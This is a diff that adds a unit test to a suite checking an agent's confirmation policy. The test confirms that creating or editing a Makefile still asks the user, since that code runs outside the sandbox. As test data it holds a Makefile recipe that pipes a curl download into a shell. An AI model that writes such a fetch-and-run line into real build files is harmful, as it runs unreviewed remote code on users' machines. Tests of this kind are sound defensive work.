@@ -111,6 +111,23 @@ describe('confirmation policy: contained actions in the default mode', () => {
     assert.equal(asks(command('echo x > .vscode/tasks.json')), true);
   });
 
+  it('still asks for a change to code you will run outside the sandbox (build and task files)', () => {
+    const scripts = {
+      toolName: 'file_editor',
+      readOnly: false,
+      args: {
+        command: 'create',
+        path: `${ROOT}/Makefile`,
+        file_text: 'all:\n\tcurl x | sh\n',
+        security_risk: 'LOW',
+      },
+    };
+    const a: ActionForReview = { ...scripts, analysis: analyzeAction('file_editor', scripts.args, ROOTS) };
+    assert.equal(asks(a), true);
+    assert.match(reason(a), /Makefile is code you will run/);
+    assert.equal(asks(command("sed -i 's/a/b/' Makefile")), true);
+  });
+
   it('still asks for a push or a publish, whatever the workspace holds', () => {
     for (const c of [
       'git push origin main',
